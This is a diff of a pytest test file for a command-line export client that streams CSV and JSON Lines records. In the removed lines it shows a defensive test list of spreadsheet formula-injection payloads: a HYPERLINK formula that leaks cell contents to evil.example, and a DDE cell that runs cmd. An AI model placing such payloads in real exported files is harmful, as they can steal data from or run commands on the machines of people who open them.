@@ -21,7 +21,7 @@ from pathlib import Path
 import pytest
 import requests
 
-from cli import formats, output
+from cli import output
 from cli.client import ServiceClient, ServiceError, Submission, Unreachable
 from cli.commands import summary_exit_code
 from cli.exits import ExitCode, UsageError
@@ -101,17 +101,6 @@ def test_a_terminal_is_not_read_and_no_urls_is_a_usage_error(tmp_path):
         gather_urls([], str(tmp_path / "missing.txt"), FakeStdin(""))
 
 
-# ---- CSV and JSON Lines ---------------------------------------------------------------------
-
-
-def test_flatten_lists_dicts_and_empties():
-    assert formats.flatten(["Ann", "Bob"]) == "Ann; Bob"
-    assert formats.flatten({"name": "Saga", "number": 2}) == '{"name": "Saga", "number": 2}'
-    assert formats.flatten([{"title": "A", "url": "u"}, "b"]) == '{"title": "A", "url": "u"}; b'
-    assert formats.flatten(None) == "" and formats.flatten([]) == ""
-    assert formats.flatten(True) == "true" and formats.flatten(4.5) == "4.5"
-
-
 BOOK_RECORD = {
     "url": book(1), "kind": "goodreads_book", "status": "done", "fetched_at": "2026-01-01T00:00:00+00:00",
     "parser_version": "1", "error": None,
@@ -124,41 +113,15 @@ FAILED_RECORD = {
 }
 
 
-def test_csv_has_base_columns_then_data_fields_and_renames_clashes():
-    out = io.StringIO()
-    formats.write_csv([BOOK_RECORD, FAILED_RECORD], out)
-    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
-    assert list(rows[0])[:5] == ["url", "kind", "status", "fetched_at", "error"]
-    assert rows[0]["authors"] == "A; B" and rows[0]["rating"] == "4.1"
-    assert json.loads(rows[0]["series"]) == {"name": "S", "number": 1}
-    assert rows[0]["data.url"] == book(1) and rows[0]["data.kind"] == "goodreads_book"
-    assert rows[1]["status"] == "failed" and rows[1]["error"] == "http_status: 404 Not Found"
-    assert rows[1]["title"] == ""
+# ---- export: the server's formats, streamed -------------------------------------------------
+# The CSV and JSON Lines formats live on the server (record_export.py, tests/test_records.py);
+# the CLI streams them. CSV needs --kind: each kind has its own columns.
 
 
-FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A1, "click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
-            "\t=1+1", "\r=1+1"]
-
-
-@pytest.mark.parametrize("formula", FORMULAS)
-def test_csv_cells_that_a_spreadsheet_would_run_start_with_an_apostrophe(formula):
-    record = {**BOOK_RECORD, "data": {**BOOK_RECORD["data"], "title": formula, "authors": [formula, "B"],
-                                      "description": "fine = text", "ratings_count": -3, "rating": 4.5}}
-    out = io.StringIO()
-    formats.write_csv([record], out)
-    row = next(csv.DictReader(io.StringIO(out.getvalue())))
-    assert row["title"] == "'" + formula
-    assert row["authors"] == "'" + formula + "; B"
-    assert row["description"] == "fine = text"  # only a formula at the start of a cell runs
-    assert (row["ratings_count"], row["rating"]) == ("-3", "4.5")  # numbers stay numbers
-
-
-def test_jsonl_is_one_record_a_line_and_duplicates_are_dropped():
-    records = formats.unique_by_url([BOOK_RECORD, FAILED_RECORD, dict(BOOK_RECORD, status="later copy")])
-    out = io.StringIO()
-    formats.write_jsonl(records, out)
-    lines = [json.loads(line) for line in out.getvalue().splitlines()]
-    assert [line["url"] for line in lines] == [book(1), book(404)] and lines[0]["status"] == "done"
+def test_a_csv_export_without_a_kind_is_a_usage_error_before_any_request(capsys):
+    with pytest.raises(SystemExit) as exited:  # nothing listens there: a request would exit 5
+        main(["--server", f"http://127.0.0.1:{free_port()}", "export", "--output", "all.csv"])
+    assert exited.value.code == 2 and "needs --kind book, news or page" in capsys.readouterr().err
 
 
 # ---- the HTTP client, against a fake session ------------------------------------------------
@@ -566,23 +529,38 @@ def test_export_jsonl_and_csv(service, tmp_path):
     assert jsonl.returncode == 0, jsonl.stderr
     records = [json.loads(line) for line in jsonl.stdout.splitlines()]
     assert sorted(r["url"] for r in records) == sorted(urls)
+    assert [r["fetched_at"] for r in records] == sorted((r["fetched_at"] for r in records), reverse=True)
     # To stdout the format is JSON Lines unless --format says otherwise.
-    as_csv = run(service.cli_env, "--quiet", "export", "--batch", batch_id, "--format", "csv")
+    as_csv = run(service.cli_env, "--quiet", "export", "--batch", batch_id, "--format", "csv", "--kind", "book")
     assert sorted(row["url"] for row in csv.DictReader(io.StringIO(as_csv.stdout))) == sorted(urls)
     csv_path = tmp_path / "all.csv"
-    every = run(service.cli_env, "--quiet", "export", "--output", str(csv_path))
+    every = run(service.cli_env, "--quiet", "export", "--kind", "book", "--output", str(csv_path))
     assert every.returncode == 0 and every.stdout == "" and every.stderr == ""
     rows = list(csv.DictReader(csv_path.open(newline="", encoding="utf-8")))
     by_url = {row["url"]: row for row in rows}
     assert len(by_url) == len(rows) and set(urls) <= set(by_url)
     assert by_url[urls[0]]["title"] == BOOK_TITLE and by_url[urls[0]]["authors"] == "Imaginary Author"
     assert by_url[urls[2]]["status"] == "failed" and by_url[urls[2]]["error"].startswith("http_status")
-    assert list(rows[0])[:4] == ["url", "kind", "status", "fetched_at"]
+    assert list(rows[0])[:4] == ["url", "status", "fetched_at", "error"]
+    assert list(tmp_path.iterdir()) == [csv_path]  # renamed into place: no partial file left
+
+
+@pytest.mark.e2e
+def test_export_filters_by_kind_and_since_and_a_bad_since_is_a_usage_error(service, tmp_path):
+    assert run(service.cli_env, "submit", run_book(22), "--wait").returncode == 0
+    fetched = json_out(run(service.cli_env, "get", run_book(22), "--json"))["fetched_at"]
+    recent = run(service.cli_env, "export", "--since", fetched, "--kind", "book", "--format", "jsonl")
+    assert recent.returncode == 0 and run_book(22) in recent.stdout and "exported" in recent.stderr
+    assert run(service.cli_env, "export", "--kind", "news").stdout == ""  # this service has no news records
+    target = tmp_path / "out.jsonl"
+    refused = run(service.cli_env, "export", "--since", "yesterday", "--output", str(target))
+    assert refused.returncode == 2 and "since must be an ISO 8601 time" in refused.stderr
+    assert not target.exists() and list(tmp_path.iterdir()) == []  # no partial file either
 
 
 @pytest.mark.e2e
 def test_export_of_an_unknown_batch_exits_4(service):
-    result = run(service.cli_env, "export", "--batch", uuid.uuid4().hex, "--format", "csv")
+    result = run(service.cli_env, "export", "--batch", uuid.uuid4().hex, "--format", "csv", "--kind", "book")
     assert result.returncode == 4 and "no batch" in result.stderr and result.stdout == ""
 
 
